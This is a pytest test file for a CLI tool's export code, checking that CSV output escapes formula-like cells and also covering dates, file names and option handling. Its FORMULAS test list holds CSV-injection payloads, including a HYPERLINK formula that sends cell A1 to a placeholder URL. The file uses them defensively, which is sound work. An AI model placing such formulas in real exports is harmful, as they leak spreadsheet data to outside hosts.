"""Rows as files: what a spreadsheet, a paste or a pipe makes of the odd values that strangers choose."""

import csv
import io
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spotify_assets.cli.errors import CommandError
from spotify_assets.cli.rows import Csv, encoded, form_of, write_file
from spotify_assets.cli.terminal import print_frame

few = settings(max_examples=60, deadline=None, derandomize=True)
FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Free")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1"]
HARMLESS = ["Song", "'=1", "", " =1", "a=1", "·", "🎵", None]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_what_a_spreadsheet_would_run_is_text() -> None:
    frame = pl.DataFrame({"name": FORMULAS + HARMLESS})
    safe = [row[0] if row else "" for row in cells(encoded(frame, "csv"))[1:]]
    assert safe == [f"'{text}" for text in FORMULAS] + [text or "" for text in HARMLESS]


@pytest.mark.parametrize("dtype", [pl.Categorical, pl.Enum(["=1"])])
def test_text_of_every_type_is_text(dtype: pl.DataType) -> None:
    assert encoded(pl.DataFrame({"a": pl.Series(["=1"], dtype=dtype)}), "csv") == b"a\n'=1\n"


def test_the_name_of_a_column_may_be_a_strangers_too() -> None:
    assert encoded(pl.DataFrame({"=1": [1], "b": [2]}), "csv") == b"'=1,b\n1,2\n"


def test_numbers_and_days_are_left_alone() -> None:
    frame = pl.DataFrame({"movement": [-3, None], "share_change": [-0.5, 1.0], "day": [date(2026, 1, 2), None]})
    assert encoded(frame, "csv") == encoded(frame, "csv", Csv(raw=True))
    assert b"-3,-0.5," in encoded(frame, "csv")


def test_raw_is_what_is_there() -> None:
    assert encoded(pl.DataFrame({"=a": ["=1"]}), "csv", Csv(raw=True)) == b"=a\n=1\n"


def test_the_mark_for_excel_comes_first_and_only_where_asked_for() -> None:
    frame = pl.DataFrame({"name": ["é"]})
    assert encoded(frame, "csv", Csv(bom=True)) == b"\xef\xbb\xbf" + encoded(frame, "csv")


@pytest.mark.parametrize(("csv_options", "option"), [(Csv(raw=True), "--raw"), (Csv(bom=True), "--bom")])
def test_options_of_csv_belong_to_csv(csv_options: Csv, option: str) -> None:
    csv_options.require("csv")
    with pytest.raises(CommandError, match=f"{option} applies to CSV. Add --format csv."):
        csv_options.require("parquet")


@few
@given(st.lists(st.text(), min_size=1))
def test_csv_loses_nothing_but_the_quote(texts: list[str]) -> None:
    read = cells(encoded(pl.DataFrame({"a": texts, "b": "x"}), "csv"))[1:]
    assert [row[0] for row in read] == [f"'{text}" if text[:1] in tuple("=+-@\t\r\n\0") else text for text in texts]


@few
@given(st.lists(st.none() | st.text()))
def test_lines_are_a_value_a_line(texts: list[str | None]) -> None:
    lines = encoded(pl.DataFrame({"a": texts}, schema={"a": pl.String}), "lines").decode()
    assert len(lines.split("\n")) == len(lines.splitlines()) + 1 == len(texts) + 1
    for text, line in zip(texts, lines.split("\n"), strict=False):
        assert line.split() == (text or "").split()


def test_lines_of_other_types() -> None:
    frame = pl.DataFrame({"a": [["x", "y\nz"], None, []]})
    assert encoded(frame, "lines") == b'["x", "y\\nz"]\n\n[]\n'


@pytest.mark.parametrize("form", ["csv", "json", "lines", "table"])
@pytest.mark.parametrize("day", [2_000_000_000, -2_000_000_000])
def test_a_day_that_no_calendar_has_is_refused(form: str, day: int) -> None:
    frame = pl.DataFrame({"a": pl.Series([0, day], dtype=pl.Int32).cast(pl.Date)})
    with pytest.raises(CommandError, match="a holds days outside the years 1 to 9999"):
        print_frame(frame) if form == "table" else encoded(frame, form)
    assert encoded(frame, "parquet")


@pytest.mark.parametrize(
    ("name", "form", "told"),
    [
        ("a.csv", None, "csv"),
        ("a.CSV", "csv", "csv"),
        ("a.csv", "table", "csv"),
        ("a.parquet", None, "parquet"),
        ("a.txt", "lines", "lines"),
        ("a", None, None),
    ],
)
def test_the_name_of_a_file_tells_its_form(name: str, form: str | None, told: str | None) -> None:
    assert form_of(Path(name), form) == told


@pytest.mark.parametrize(("name", "form"), [("a.csv", "parquet"), ("a.json", "csv"), ("a.parquet", "table")])
def test_a_name_that_contradicts_the_form_is_refused(name: str, form: str) -> None:
    with pytest.raises(CommandError, match=f"{name} is named as .*, but --format is {form}"):
        form_of(Path(name), form)


def test_folders_are_made_but_none_at_the_root(tmp_path: Path) -> None:
    write_file(tmp_path / "a" / "b" / "c.csv", b"x")
    assert (tmp_path / "a" / "b" / "c.csv").read_bytes() == b"x"
    with pytest.raises(CommandError, match="none is created at the root"):
        write_file(Path("/no-such-folder-of-the-root/deep/c.csv"), b"x")
    assert not Path("/no-such-folder-of-the-root").exists()


@pytest.mark.parametrize("form", ["csv", "json"])
@pytest.mark.parametrize("values", [[b"x"], [[b"x"]]])
def test_bytes_that_a_form_cannot_hold_are_refused(form: str, values: list[object]) -> None:
    with pytest.raises(CommandError, match=r"a holds bytes, which \w+ cannot store. Select hex\(a\)"):
        encoded(pl.DataFrame({"a": values}), form)
